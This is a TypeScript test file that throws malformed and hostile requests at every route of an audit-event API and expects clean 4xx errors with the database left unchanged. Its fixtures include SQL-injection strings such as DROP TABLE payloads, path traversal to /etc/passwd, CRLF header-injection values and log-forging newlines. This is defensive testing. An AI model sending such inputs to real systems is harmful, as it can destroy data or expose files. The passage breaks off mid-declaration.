import { describe, expect, it } from 'vitest';
import { BASE, call, type EventBody, event, KEY, postJson, uniqueCompanyId } from '../helpers/app';
import { query } from '../helpers/sql';

/**
 * Hostile and malformed requests against every route. Each one must get the expected 4xx, a
 * JSON body whose detail tells the caller what to fix, never a 500, and leave the events table
 * as it was. Create and batch bodies carry this file's company id and a marker in the message,
 * so "unchanged" is a count of both. (A refused read still writes its self-audit row under
 * company 0, by design; that is not data the caller tried to store.)
 */
const COMPANY = uniqueCompanyId();
const MARKER = `hostile-${crypto.randomUUID()}`;
const API = '/pyaudit/api';

interface Issue {
  loc: (string | number)[];
  msg: string;
  type: string;
}

interface HostileCase {
  name: string;
  method?: string;
  path: string;
  /** An object is sent as JSON; a string as is; bytes as is (no Content-Type unless given). */
  body?: unknown;
  /** Default application/json when there is a body; null sends none. */
  contentType?: string | null;
  headers?: Record<string, string>;
  /** Default the test key; null sends none. */
  key?: string | null;
  status: number;
  /** For a 422: an issue at exactly this loc must be present. */
  loc?: (string | number)[];
  /** For a 405: the Allow header. */
  allow?: string;
  /** Matched against the detail (string) or the issue messages (422). */
  says: RegExp;
}

const valid = (overrides: Partial<EventBody> = {}): EventBody =>
  event({ company_id: COMPANY, message: `${MARKER} hostile`, ...overrides });

/** The valid body with one field replaced by raw JSON text (for escapes JSON.stringify would never write). */
const withRaw = (field: string, rawJson: string, base: object = valid()) =>
  JSON.stringify({ ...base, [field]: '__RAW__' }).replace('"__RAW__"', rawJson);

const without = (field: keyof EventBody) => {
  const body: Record<string, unknown> = { ...valid() };
  delete body[field];
  return body;
};

const deep = (levels: number): unknown => (levels === 0 ? 'bottom' : { d: deep(levels - 1) });
const deepRaw = (levels: number) => `${'{"d":'.repeat(levels)}1${'}'.repeat(levels)}`;

const create = (name: string, body: unknown, status: number, loc: (string | number)[] | undefined, says: RegExp) => ({
  name: `create: ${name}`,
  method: 'POST',
  path: `${BASE}/create`,
  body,
  status,
  loc,
  says,
});
const field = (f: string, name: string, value: unknown, says: RegExp, status = 422) =>
  create(`${f} ${name}`, { ...valid(), [f]: value }, status, status === 422 ? ['body', f] : undefined, says);
const rawField = (f: string, name: string, rawJson: string, says: RegExp) =>
  create(`${f} ${name}`, withRaw(f, rawJson), 422, ['body', f], says);

/** A create whose JSON is valid but for two bytes of the message, which are not UTF-8. */
const badUtf8 = (name: string, first: number, second: number) => {
  const text = JSON.stringify(valid({ message: `${MARKER} XX` }));
  const bytes = new TextEncoder().encode(text);
  const at = text.indexOf('XX');
  bytes[at] = first;
  bytes[at + 1] = second;
  return { ...create(name, bytes, 422, ['body'], /UTF-8/), contentType: 'application/json' };
};

const searchQ = (name: string, qs: string, status: number, loc: (string | number)[] | undefined, says: RegExp) => ({
  name: `search: ${name}`,
  path: `${BASE}/search?${qs}`,
  status,
  loc,
  says,
});
const searchParam = (param: string, name: string, value: string, says: RegExp) =>
  searchQ(`${param} ${name}`, `${param}=${value}`, 422, ['query', param], says);

const NOT_INT = /valid integer|valid number|greater than or equal|less than or equal/;
const TOO_LONG = /at most \d+ characters/;
const NUL = /NUL/;
const SURROGATE = /unpaired surrogate|valid Unicode/;
const CONTROL = /control characters/;
const BLANK = /blank|at least 1 character/;
const DATE = /Invalid date|valid ISO 8601|valid datetime|datetime/;

const cases: HostileCase[] = [
  // ---- create: whole-body problems
  create('empty JSON object', {}, 422, ['body', 'company_id'], /Field required/),
  create('array instead of object', [valid()], 422, ['body'], /valid dictionary|object/),
  create('JSON null', 'null', 422, ['body'], /valid dictionary|object/),
  create('JSON string', '"event"', 422, ['body'], /valid dictionary|object/),
  create('JSON number', '42', 422, ['body'], /valid dictionary|object/),
  create('JSON true', 'true', 422, ['body'], /valid dictionary|object/),
  create('not JSON at all', 'this is not json', 422, ['body'], /JSON decode error/),
  create('truncated JSON', '{"company_id": 5001, "message": "abc', 422, ['body'], /JSON decode error/),
  create('trailing garbage after JSON', `${JSON.stringify(valid())} trailing`, 422, ['body'], /JSON decode error/),
  create('empty body', '', 422, ['body'], /JSON decode error/),
  create('single quotes (not JSON)', "{'company_id': 5001}", 422, ['body'], /JSON decode error/),
  create('NaN literal', withRaw('company_id', 'NaN'), 422, ['body'], /JSON decode error/),
  create('comment in JSON', `/* c */${JSON.stringify(valid())}`, 422, ['body'], /JSON decode error/),
  badUtf8('invalid UTF-8 bytes in the body', 0xff, 0xfe),
  badUtf8('overlong UTF-8 encoding of a quote (0xC0 0xA2)', 0xc0, 0xa2),
  {
    name: 'create: text/plain body',
    method: 'POST',
    path: `${BASE}/create`,
    body: JSON.stringify(valid()),
    contentType: 'text/plain',
    status: 415,
    says: /Content-Type: application\/json/,
  },
  {
    name: 'create: form-encoded body',
    method: 'POST',
    path: `${BASE}/create`,
    body: `company_id=${COMPANY}&message=${MARKER}`,
    contentType: 'application/x-www-form-urlencoded',
    status: 415,
    says: /Content-Type: application\/json/,
  },
  {
    name: 'create: multipart body',
    method: 'POST',
    path: `${BASE}/create`,
    body: `--x\r\nContent-Disposition: form-data; name="message"\r\n\r\n${MARKER}\r\n--x--\r\n`,
    contentType: 'multipart/form-data; boundary=x',
    status: 415,
    says: /Content-Type: application\/json/,
  },
  {
    name: 'create: JSON body with no Content-Type',
    method: 'POST',
    path: `${BASE}/create`,
    body: new TextEncoder().encode(JSON.stringify(valid())),
    contentType: null,
    status: 415,
    says: /Content-Type: application\/json/,
  },
  {
    name: 'create: application/xml',
    method: 'POST',
    path: `${BASE}/create`,
    body: `<event><message>${MARKER}</message></event>`,
    contentType: 'application/xml',
    status: 415,
    says: /Content-Type: application\/json/,
  },
  {
    name: 'create: body over the size limit',
    method: 'POST',
    path: `${BASE}/create`,
    body: JSON.stringify({ ...valid(), additional_data: { blob: 'x'.repeat(1_100_000) } }),
    status: 413,
    says: /larger than the limit of \d+ bytes/,
  },

  // ---- create: missing and extra fields
  create('missing company_id', without('company_id'), 422, ['body', 'company_id'], /Field required/),
  create('missing message', without('message'), 422, ['body', 'message'], /Field required/),
  create('missing functionality', without('functionality'), 422, ['body', 'functionality'], /Field required/),
  create('missing event_type', without('event_type'), 422, ['body', 'event_type'], /Field required/),
  create('missing event_timestamp', without('event_timestamp'), 422, ['body', 'event_timestamp'], /Field required/),
  // Unknown fields (colour, id, __proto__, constructor) are ignored and named, as the old service
  // ignored them (issue 11.3): test/routes/events/ignored-parameters.test.ts. A camel-case name
  // is unknown too, so the real field is missing:
  create(
    'camel-case field names',
    { ...without('company_id'), companyId: 5 },
    422,
    ['body', 'company_id'],
    /Field required/,
  ),

  // ---- company_id and store_id: wrong types, signs, sizes
  field('company_id', 'as a word', 'abc', NOT_INT),
  field('company_id', 'as an empty string', '', NOT_INT),
  field('company_id', 'as a float', 1.5, NOT_INT),
  field('company_id', 'negative', -1, NOT_INT),
  field('company_id', 'as true', true, NOT_INT),
  field('company_id', 'null', null, NOT_INT),
  field('company_id', 'as an array', [5001], NOT_INT),
  field('company_id', 'as an object', { id: 5001 }, NOT_INT),
  field('company_id', '2^53 (past safe integers)', 2 ** 53, NOT_INT),
  field('company_id', '2^63 (past bigint)', 2 ** 63, NOT_INT),
  rawField('company_id', '99999999999999999999 as a JSON number', '99999999999999999999', NOT_INT),
  rawField('company_id', '1e309 (Infinity once parsed)', '1e309', NOT_INT),
  rawField('company_id', '-0.5e-3', '-0.5e-3', NOT_INT),
  field('company_id', '2^53+1 as a digit string', '9007199254740993', NOT_INT),
  field('company_id', 'past bigint as a digit string', '99999999999999999999999', NOT_INT),
  field('company_id', 'a negative digit string', '-5', NOT_INT),
  field('company_id', 'digits and letters', '12abc', NOT_INT),
  field('company_id', 'SQL in a string', '5001 OR 1=1', NOT_INT),
  field('company_id', 'hex string', '0x1389', NOT_INT),
  field('store_id', 'as a word', 'downtown', NOT_INT),
  field('store_id', 'negative', -3, NOT_INT),
  field('store_id', 'as a float', 101.5, NOT_INT),
  field('store_id', 'past bigint', 2 ** 64, NOT_INT),
  field('store_id', 'as an object', {}, NOT_INT),

  // ---- event_timestamp
  field('event_timestamp', 'as a number (epoch)', 1_700_000_000, /valid string/),
  field('event_timestamp', 'empty', '', DATE),
  field('event_timestamp', 'words', 'yesterday at noon', DATE),
  field('event_timestamp', 'month 13', '2026-13-01T10:00:00Z', DATE),
  field('event_timestamp', 'February 30', '2026-02-30T10:00:00Z', DATE),
  field('event_timestamp', 'hour 24', '2026-11-20T24:00:00Z', DATE),
  field('event_timestamp', 'offset past 18 hours', '2026-11-20T10:00:00+19:00', DATE),
  field('event_timestamp', 'epoch digits as a string', '1700000000', DATE),
  field('event_timestamp', 'far future', '9999-12-31T23:59:59Z', /in the future/),
  field('event_timestamp', 'before 1970', '1969-07-20T20:17:00Z', /after 1970/),
  field(
    'event_timestamp',
    'in 1971 (past MAX_EVENT_AGE_MONTHS)',
    '1971-01-01T00:00:00Z',
    /older than this service keeps/,
  ),
  field('event_timestamp', 'year 0070 with an offset', '0070-06-01T00:00:00Z', DATE),
  field('event_timestamp', 'year 0000', '0000-01-01T00:00:00', DATE),
  field('event_timestamp', 'longer than 64 characters', `2026-11-20T10:00:00Z${' '.repeat(60)}`, TOO_LONG),
  field('event_timestamp', 'with a NUL', '2026-11-20T10:00:00\u0000Z', DATE),
  field('event_timestamp', 'SQL', "2026-11-20'; DROP TABLE auditevents; --", DATE),

  // ---- functionality and event_type
  field('functionality', 'unknown name', 'Billing', /Unknown functionalityname found: Billing/, 400),
  field('functionality', 'SQL injection', "x' OR '1'='1", /Unknown functionalityname found: x' OR '1'='1/, 400),
  field('functionality', 'LIKE wildcard', '%', /Unknown functionalityname found: %/, 400),
  field('functionality', 'whitespace only', '   ', /Unknown functionalityname found/, 400),
  field('functionality', 'empty', '', BLANK),
  field('functionality', '101 characters', 'F'.repeat(101), TOO_LONG),
  field('functionality', 'as a number', 7, /valid string/),
  field('functionality', 'with a NUL', 'Authen\u0000ticate', NUL),
  field('functionality', 'with a bell character', 'Authenticate\u0007', CONTROL),
  field('functionality', 'with a newline', 'Authenticate\nLogin', CONTROL),
  rawField('functionality', 'with a lone surrogate', '"Auth\\ud800"', SURROGATE),
  field('event_type', 'of another functionality', 'Item updated', /Unknown eventtypename found: Item updated/, 400),
  field('event_type', 'unknown', 'Teleport', /Unknown eventtypename found: Teleport/, 400),
  field('event_type', 'LIKE wildcard', 'Log%', /Unknown eventtypename found: Log%/, 400),
  field('event_type', '101 characters', 'E'.repeat(101), TOO_LONG),
  field('event_type', 'as an array', ['Login'], /valid string/),
  rawField('event_type', 'with a lone low surrogate', '"Login\\udc00"', SURROGATE),

  // ---- user
  create('user of 21 characters (compat body)', valid({ user: 'u'.repeat(21) }), 422, ['body', 'user'], /at most 20/),
  field('user', 'empty', '', BLANK),
  field('user', 'whitespace only', '     ', BLANK),
  field('user', 'tabs only', '\t\t', BLANK),
  field('user', 'non-breaking spaces only', '\u00a0\u00a0', BLANK),
  field('user', 'with a NUL', 'jd\u0000oe', NUL),
  field('user', 'with a newline (log forging)', 'jdoe\nadmin', CONTROL),
  field('user', 'with a carriage return', 'jdoe\rroot', CONTROL),
  field('user', 'with an escape sequence', '\u001b[31mred', CONTROL),
  field('user', 'as a number', 42, /valid string/),
  field('user', 'as an object', { name: 'jdoe' }, /valid string/),
  field('user', '21 emoji', '😀'.repeat(21), /at most 20/),
  rawField('user', 'with a lone surrogate', '"jd\\ud83doe"', SURROGATE),

  // ---- message
  field('message', 'empty', '', BLANK),
  field('message', 'whitespace only', ' \t \n ', BLANK),
  field('message', '10,001 characters', 'm'.repeat(10_001), /at most 10000/),
  field('message', 'with a NUL', `${MARKER} a\u0000b`, NUL),
  field('message', 'with an escape character', `${MARKER} \u001b[2J`, CONTROL),
  field('message', 'with a backspace', `${MARKER} \u0008`, CONTROL),
  field('message', 'null', null, /valid string/),
  field('message', 'as a number', 12345, /valid string/),
  field('message', 'as an array', [MARKER], /valid string/),
  rawField('message', 'with a lone high surrogate', `"${MARKER} \\ud800"`, SURROGATE),
  rawField('message', 'with a lone low surrogate', `"${MARKER} \\udfff x"`, SURROGATE),
  rawField('message', 'with a reversed surrogate pair', `"${MARKER} \\ude00\\ud83d"`, SURROGATE),

  // ---- status
  field('status', 'lower case', 'success', /'Success' or 'Failed'/),
  field('status', 'unknown', 'Pending', /'Success' or 'Failed'/),
  // An empty or null status is stored as Success, as the old service did (CLIENTS.md 2,
  // test/clients/posting-system.replay.test.ts).
  field('status', 'as a number', 1, /'Success' or 'Failed'|valid string/),
  field('status', 'SQL', "Success' OR 1=1 --", /'Success' or 'Failed'/),

  // ---- additional_data
  field('additional_data', 'as an array', [1, 2, 3], /valid dictionary/),
  field('additional_data', 'as a string', '{"ip":"1.2.3.4"}', /valid dictionary/),
  field('additional_data', 'as a number', 5, /valid dictionary/),
  field('additional_data', 'as true', true, /valid dictionary/),
  field('additional_data', '9 levels deep', deep(9), /deeper than 8 levels/),
  rawField('additional_data', '5,000 levels deep', deepRaw(5000), /deeper than 8 levels/),
  field('additional_data', 'an array nested 9 deep', { a: [[[[[[[[1]]]]]]]] }, /deeper than 8 levels/),
  field('additional_data', 'over 16 KB', { blob: 'x'.repeat(20_000) }, /bytes; the limit is 16384/),
  field(
    'additional_data',
    'many small keys over 16 KB',
    Object.fromEntries(Array.from({ length: 3000 }, (_, i) => [`k${i}`, i])),
    /the limit is 16384/,
  ),
  field('additional_data', 'NUL in a value', { note: 'a\u0000b' }, /NUL/),
  field('additional_data', 'NUL in a key', { 'a\u0000b': 1 }, /NUL/),
  rawField('additional_data', 'lone surrogate in a value', '{"note":"\\ud800"}', SURROGATE),
  rawField('additional_data', 'lone surrogate in a key', '{"\\udc00":1}', SURROGATE),
  rawField('additional_data', 'number past double range', '{"n":1e400}', /not finite/),

  // ---- event_id
  field('event_id', 'not a UUID', 'event-1', /UUID/i),
  field('event_id', 'as a number', 123, /valid string|UUID/i),
  field('event_id', 'SQL', "'; DROP TABLE auditevent_idempotency; --", /UUID/i),
  field('event_id', 'UUID with a NUL', '3f2a9c1e-5b7d-4e8f-9a0b-1c2d3e4f5a6\u0000', /UUID/i),

  // ---- batch
  {
    name: 'batch: empty object',
    method: 'POST',
    path: `${BASE}/batch`,
    body: {},
    status: 422,
    loc: ['body', 'events'],
    says: /Field required/,
  },
  {
    name: 'batch: empty list',
    method: 'POST',
    path: `${BASE}/batch`,
    body: { events: [] },
    status: 422,
    loc: ['body', 'events'],
    says: /at least 1 item/,
  },
  {
    name: 'batch: events as an object',
    method: 'POST',
    path: `${BASE}/batch`,
    body: { events: valid() },
    status: 422,
    loc: ['body', 'events'],
    says: /valid list/,
  },
  {
    name: 'batch: events as a string',
    method: 'POST',
    path: `${BASE}/batch`,
    body: { events: JSON.stringify([valid()]) },
    status: 422,
    loc: ['body', 'events'],
    says: /valid list/,
  },
  {
    name: 'batch: events null',
    method: 'POST',
    path: `${BASE}/batch`,
    body: { events: null },
    status: 422,
    loc: ['body', 'events'],
    says: /valid list/,
  },
  {
    name: 'batch: a bare list (no events key)',
    method: 'POST',
    path: `${BASE}/batch`,
    body: [valid()],
    status: 422,
    loc: ['body'],
    says: /valid dictionary|object/,
  },
  {
    name: 'batch: extra top-level field',
    method: 'POST',
    path: `${BASE}/batch`,
    body: { events: [valid()], atomic: true },
    status: 422,
    loc: ['body', 'atomic'],
    says: /Extra inputs/,
  },
  {
    name: 'batch: 1001 events',
    method: 'POST',
    path: `${BASE}/batch`,
    body: { events: Array.from({ length: 1001 }, () => valid()) },
    status: 413,
    says: /at most 1000 events; this one has 1001/,
  },
  {
    name: 'batch: not JSON',
    method: 'POST',
    path: `${BASE}/batch`,
    body: 'events=1',
    status: 422,
    loc: ['body'],
    says: /JSON decode error/,
  },
  {
    name: 'batch: text/plain',
    method: 'POST',
    path: `${BASE}/batch`,
    body: JSON.stringify({ events: [valid()] }),
    contentType: 'text/plain',
    status: 415,
    says: /Content-Type: application\/json/,
  },

  // ---- search: numbers
  searchParam('page_size', '0', '0', NOT_INT),
  searchParam('page_size', '-1', '-1', NOT_INT),
  searchParam('page_size', '5001', '5001', /less than or equal to 5000/),
  searchParam('page_size', '1e309', '1e309', NOT_INT),
  searchParam('page_size', '99999999999999999999', '99999999999999999999', NOT_INT),
  searchParam('page_size', 'a float', '2.5', NOT_INT),
  searchParam('page_size', 'a word', 'all', NOT_INT),
  searchParam('page_size', 'empty', '', NOT_INT),
  searchParam('page_number', '0', '0', NOT_INT),
  searchParam('page_number', '-1', '-1', NOT_INT),
  searchParam('page_number', '1e309', '1e309', NOT_INT),
  searchParam('page_number', '99999999999999999999', '99999999999999999999', NOT_INT),
  searchParam('page_number', '2^53+1', '9007199254740993', NOT_INT),
  searchParam('page_number', 'hex', '0x10', NOT_INT),
  searchQ(
    'page_number past the last offset',
    'page_number=9007199254740991&page_size=5000',
    422,
    ['query', 'page_number'],
    NOT_INT,
  ),
  searchParam('company_id', 'a word', 'acme', NOT_INT),
  searchParam('company_id', 'negative', '-5001', NOT_INT),
  searchParam('company_id', 'a float', '5001.5', NOT_INT),
  searchParam('company_id', 'past bigint', '9223372036854775808', NOT_INT),
  searchParam('company_id', 'SQL', '5001%20OR%201%3D1', NOT_INT),
  searchParam('store_id', 'a word', 'downtown', NOT_INT),
  searchParam('store_location_id', 'negative', '-1', NOT_INT),
  // ---- search: dates in every wrong format
  searchParam('from_date', 'words', 'yesterday', DATE),
  searchParam('from_date', 'month 13', '13-01-2026', DATE),
  searchParam('from_date', 'February 30', '02-30-2026', DATE),
  searchParam('from_date', 'ISO February 30', '2026-02-30', DATE),
  searchParam('from_date', 'day first', '31-12-2026', DATE),
  searchParam('from_date', 'slashes', '11/20/2026', DATE),
  searchParam('from_date', 'epoch seconds', '1700000000', DATE),
  searchParam('from_date', 'hour 25', '11-20-2026%2025:00:00', DATE),
  searchParam('from_date', 'SQL', "11-20-2026'%20OR%20'1'%3D'1", DATE),
  searchParam('to_date', 'two-digit year', '11-20-26', DATE),
  searchParam('to_date', 'offset past 18 hours', '2026-11-20T10:00:00%2B23:00', DATE),
  searchParam('to_date', 'year 0070 with Z', '0070-01-01T00:00:00Z', DATE),
  searchQ(
    'to_date before from_date',
    'from_date=11-20-2026&to_date=11-19-2026',
    422,
    ['query', 'to_date'],
    /after from_date/,
  ),
  // ---- search: strings
  searchParam('functionality', '201 characters', 'F'.repeat(201), TOO_LONG),
  searchParam('message_pattern', '201 characters', 'm'.repeat(201), TOO_LONG),
  searchParam('message_pattern', 'with a NUL', 'abc%00def', NUL),
  searchParam('user', 'with a NUL', 'jdoe%00', NUL),
  searchParam('functionality', 'with a NUL', '%00', NUL),
  searchParam('event_type', 'with a NUL', 'Login%00', NUL),
  searchParam('from_date', 'with a NUL', '11-20-2026%00', NUL),
  searchParam('status', 'lower case', 'success', /'Success' or 'Failed'/),
  searchParam('include_archived', 'maybe', 'maybe', /'true' or 'false'/),
  searchParam('cursor', 'garbage', 'not-a-cursor', /Invalid cursor/),
  searchParam('cursor', 'forged', btoa(JSON.stringify(["x'; DROP TABLE auditevents; --", 1, 1])), /Invalid cursor/),
  searchParam('cursor', 'forged page 0', btoa(JSON.stringify(['2026-01-01T00:00:00Z', 1, 0])), /Invalid cursor/),
  // ---- search: parameters that are not parameters
  // Unknown names (colour, Company_Id, company_id[]) are ignored and named in X-Ignored-Parameters,
  // as the old service ignored them (issue 11.2): test/routes/events/ignored-parameters.test.ts.
  searchQ('duplicate company_id', 'company_id=1&company_id=2', 422, ['query', 'company_id'], /more than once/),
  searchQ('duplicate page_size', 'page_size=1&page_size=5000', 422, ['query', 'page_size'], /more than once/),
  searchQ('duplicate user', 'user=a&user=b', 422, ['query', 'user'], /more than once/),
  searchQ('alias conflicts', 'user=a&username=b', 422, ['query', 'username'], /Conflicts with user/),

  // ---- recent
  ...(['0', '-1', '5001', '1e309', '99999999999999999999', '1.5', 'all', ''] as const).map((v) => ({
    name: `recent: limit ${v || 'empty'}`,
    path: `${BASE}/recent?limit=${v}`,
    status: 422,
    loc: ['query', 'limit'],
    says: NOT_INT,
  })),
  {
    name: 'recent: duplicate limit',
    path: `${BASE}/recent?limit=1&limit=2`,
    status: 422,
    loc: ['query', 'limit'],
    says: /more than once/,
  },

  // ---- catalogue and directory
  {
    name: 'event types: functionalityname missing',
    path: `${BASE}/get-eventtypenames-by-functionalityname`,
    status: 422,
    loc: ['query', 'functionalityname'],
    says: /Field required/,
  },
  {
    name: 'event types: functionalityname empty',
    path: `${BASE}/get-eventtypenames-by-functionalityname?functionalityname=`,
    status: 422,
    loc: ['query', 'functionalityname'],
    says: BLANK,
  },
  {
    name: 'event types: functionalityname of 101 characters',
    path: `${BASE}/get-eventtypenames-by-functionalityname?functionalityname=${'f'.repeat(101)}`,
    status: 422,
    loc: ['query', 'functionalityname'],
    says: TOO_LONG,
  },
  {
    name: 'event types: functionalityname with a NUL',
    path: `${BASE}/get-eventtypenames-by-functionalityname?functionalityname=Auth%00`,
    status: 422,
    loc: ['query', 'functionalityname'],
    says: NUL,
  },
  {
    name: 'event types: functionalityname twice',
    path: `${BASE}/get-eventtypenames-by-functionalityname?functionalityname=Authenticate&functionalityname=Price%20Management`,
    status: 422,
    loc: ['query', 'functionalityname'],
    says: /more than once/,
  },
  {
    name: 'event types: wrong parameter name',
    path: `${BASE}/get-eventtypenames-by-functionalityname?functionality=Authenticate`,
    status: 422,
    loc: ['query', 'functionalityname'],
    says: /Field required/,
  },
  ...(['', 'acme', '-1', '1.5', '1e309', '99999999999999999999', "1'%20OR%20'1'%3D'1"] as const).map((v) => ({
    name: `stores: company_id ${v || 'empty'}`,
    path: `${BASE}/get-storelocations-by-company?company_id=${v}`,
    status: 422,
    loc: ['query', 'company_id'],
    says: NOT_INT,
  })),
  {
    name: 'stores: company_id missing',
    path: `${BASE}/get-storelocations-by-company`,
    status: 422,
    loc: ['query', 'company_id'],
    says: /Field required/,
  },
  {
    name: 'stores: company_id twice',
    path: `${BASE}/get-storelocations-by-company?company_id=1&company_id=2`,
    status: 422,
    loc: ['query', 'company_id'],
    says: /more than once/,
  },

  // ---- wrong methods
  ...(
    [
      ['GET', 'create', 'POST'],
      ['PUT', 'create', 'POST'],
      ['GET', 'batch', 'POST'],
      ['POST', 'search', 'GET'],
      ['DELETE', 'recent', 'GET'],
      ['PATCH', 'get-all-companies', 'GET'],
    ] as const
  ).map(([method, route, allowed]) => ({
    name: `${method} ${route}: wrong method`,
    method,
    path: `${BASE}/${route}`,
    body: method === 'GET' ? undefined : '{}',
    status: 405,
    says: /Method Not Allowed/,
    allow: allowed,
  })),
  {
    name: 'POST healthcheck: wrong method',
    method: 'POST',
    path: `${API}/healthcheck`,
    body: '{}',
    status: 405,
    says: /Method Not Allowed/,
  },

  // ---- keys: in the query string, missing, wrong
  ...['api_key', 'apikey', 'key', 'CSIQ-APIKEY', 'Api-Key'].map((name) => ({
    name: `key in the query string as ${name}`,
    path: `${BASE}/recent?${name}=${KEY}`,
    status: 400,
    says: /not accepted in the query string; send the CSIQ-APIKEY header/,
  })),
  {
    name: 'key in the query string, no header',
    path: `${BASE}/search?api_key=${KEY}`,
    key: null,
    status: 400,
    says: /not accepted in the query string/,
  },
  { name: 'no key', path: `${BASE}/recent`, key: null, status: 401, says: /^API Key is missing$/ },
  { name: 'empty key', path: `${BASE}/recent`, key: '', status: 401, says: /^API Key is missing$/ },
  { name: 'wrong key', path: `${BASE}/recent`, key: 'wrong', status: 401, says: /^Invalid API Key$/ },
  { name: 'key in another case', path: `${BASE}/recent`, key: KEY.toUpperCase(), status: 401, says: /Invalid API Key/ },
  { name: 'key with a suffix', path: `${BASE}/recent`, key: `${KEY}x`, status: 401, says: /Invalid API Key/ },
  { name: 'a 10 KB key', path: `${BASE}/recent`, key: 'k'.repeat(10_000), status: 401, says: /Invalid API Key/ },
  { name: 'SQL as a key', path: `${BASE}/recent`, key: "' OR '1'='1", status: 401, says: /Invalid API Key/ },
  // Issue 13.9: a well-formed fake key is a 401 (looked up once, then remembered); odd client
  // addresses are only map keys for the failure count, never a 500.
  ...[
    ['a well-formed fake pak_ key', `pak_abcdefgh_${'A'.repeat(32)}`, {}],
    ['a wrong key from an odd CF-Connecting-IP', 'wrong', { 'CF-Connecting-IP': ':::::::::' }],
    ['a wrong key from a 2 KB CF-Connecting-IP', 'wrong', { 'CF-Connecting-IP': `1.${'9'.repeat(2000)}` }],
    ['a wrong key from a CF-Connecting-IP with SQL', 'wrong', { 'CF-Connecting-IP': "'; DROP TABLE api_keys; --" }],
  ].map(([name, key, headers]) => ({
    name: name as string,
    path: `${BASE}/recent`,
    key: key as string,
    headers: headers as Record<string, string>,
    status: 401,
    says: /^Invalid API Key$/,
  })),
  {
    name: 'key as a Bearer token instead',
    path: `${BASE}/recent`,
    key: null,
    headers: { Authorization: `Bearer ${KEY}` },
    status: 401,
    says: /API Key is missing/,
  },
  {
    name: 'create without a key stores nothing',
    method: 'POST',
    path: `${BASE}/create`,
    body: valid(),
    key: null,
    status: 401,
    says: /API Key is missing/,
  },

  // ---- path traversal and odd paths
  ...[
    `${BASE}/../../etc/passwd`,
    `${BASE}/%2e%2e/%2e%2e/etc/passwd`,
    `${BASE}/..%2f..%2fetc%2fpasswd`,
    `${BASE}/%2e%2e%2f%2e%2e%2fetc%2fpasswd`,
    `${BASE}/create/../../../../etc/passwd`,
    `${BASE}/..%5c..%5cwindows%5cwin.ini`,
    `${BASE}/search/..;/create`,
    `${BASE}//search`,
    `${BASE}/SEARCH`,
    `${BASE}/search/`,
    `${BASE}/search%20`,
    `${API}/audit-events/%252e%252e/secret`,
    '/pyaudit/../../etc/passwd',
    '/etc/passwd',
  ].map((path) => ({ name: `path ${path}`, path, status: 404, says: /^Not Found$/ })),

  // ---- NUL in a path: refused before any route or query sees it
  ...[`${BASE}/create%00`, `${BASE}/create%00.json`, `${API}/admin/keys/%00/revoke`, `${API}/admin/keys/%00`].map(
    (path) => ({
      name: `path ${path}`,
      method: path.includes('admin') && !path.endsWith('revoke') ? 'DELETE' : 'POST',
      path,
      body: '{}',
      status: 422,
      loc: ['path'],
      says: /must not contain NUL/,
    }),
  ),
  {
    name: 'admin: functionality name with a NUL in the path',
    method: 'POST',
    path: `${API}/admin/functionalities/%00/event-types`,
    body: { event_types: ['x'] },
    status: 422,
    loc: ['path'],
    says: /must not contain NUL/,
  },

  // ---- export (validated before the first byte: JSON errors, no file)
  ...[
    ['format', 'pdf'],
    ['format', 'csv%0d%0aSet-Cookie:%20x=1'],
    ['recent', 'maybe'],
    ['recent', 'true%0d%0aX-Injected:%201'],
    ['company_id', '1%0d%0aX-Injected:%201'],
    ['from_date', 'yesterday'],
    // page_size is accepted on export (the dashboard sends it, issue 11.1); a bad value is not.
    ['page_size', '0'],
    ['page_number', 'first'],
    ['message_pattern', '%00'],
  ].map(([param, value]) => ({
    name: `export: ${param}=${value}`,
    path: `${BASE}/export?${param}=${value}`,
    status: 422,
    loc: ['query', param as string],
    says: /./,
  })),
  {
    name: 'export: duplicate format',
    path: `${BASE}/export?format=csv&format=xlsx`,
    status: 422,
    loc: ['query', 'format'],
    says: /more than once/,
  },
];

async function send(c: HostileCase): Promise<Response> {
  const headers = new Headers(c.headers);
  if (c.key !== null) headers.set('CSIQ-APIKEY', c.key ?? KEY);
  let body: BodyInit | undefined;
  if (c.body !== undefined) {
    body = c.body instanceof Uint8Array ? c.body : typeof c.body === 'string' ? c.body : JSON.stringify(c.body);
    const type = c.contentType === undefined ? 'application/json' : c.contentType;
    if (type !== null) headers.set('Content-Type', type);
  }
  return call(c.path, { method: c.method ?? 'GET', headers, body });
}

async function storedByThisFile(): Promise<number> {
  const [row] = await query<{ n: number }>(
    'SELECT count(*)::int AS n FROM auditevents_all WHERE companyid = $1 OR message LIKE $2',
    [COMPANY, `%${MARKER}%`],
  );
  return row?.n ?? -1;
}

describe('hostile and malformed requests', () => {
  it('the table is big enough and the valid body it mutates is really valid', async () => {
    expect(cases.length).toBeGreaterThanOrEqual(150);
    expect(new Set(cases.map((c) => c.name)).size).toBe(cases.length);
    // The same body, unmutated, under another company: stored. So each refusal is the mutation's doing.
    const response = await postJson(`${BASE}/create`, { ...valid(), company_id: uniqueCompanyId(), message: 'ok' });
    expect(response.status).toBe(201);
  });

  it.each(cases)('$name -> $status', async (c) => {
    const before = await storedByThisFile();
    const response = await send(c);
    const text = await response.text();
    expect(response.status, text).toBe(c.status);
    expect(response.headers.get('Content-Type')).toMatch(/^application\/json/);
    expect(response.headers.get('X-Content-Type-Options')).toBe('nosniff');
    expect(response.headers.get('X-Request-ID')).toBeTruthy();
    const body = JSON.parse(text) as { detail: string | Issue[] };
    if (c.status === 405) expect(response.headers.get('Allow')).toBe(c.allow ?? 'GET');
    if (Array.isArray(body.detail)) {
      expect(c.status).toBe(422);
      for (const issue of body.detail) {
        expect(issue.msg.length, JSON.stringify(issue)).toBeGreaterThan(5);
        expect(issue.type).toBeTruthy();
      }
      if (c.loc)
        expect(
          body.detail.map((i) => i.loc),
          text,
        ).toContainEqual(c.loc);
      const messages = c.loc
        ? body.detail.filter((i) => JSON.stringify(i.loc) === JSON.stringify(c.loc)).map((i) => i.msg)
        : body.detail.map((i) => i.msg);
      expect(messages.join(' | '), text).toMatch(c.says);
    } else {
      expect(typeof body.detail, text).toBe('string');
      expect(body.detail, text).toMatch(c.says);
    }
    // Never a stack trace, SQL or a key in an error.
    expect(text).not.toMatch(/\bat [\w.<>]+ \(|node_modules|SELECT |INSERT INTO|auditevents_ingest|test-key-/);
    expect(await storedByThisFile(), 'the database changed').toBe(before);
  });

  it('left nothing behind: no row of this file exists', async () => {
    expect(await storedByThisFile()).toBe(0);
  });
});

describe('hostile strings are data: stored verbatim, matched literally', () => {
  const company = uniqueCompanyId();
  const MESSAGES = [
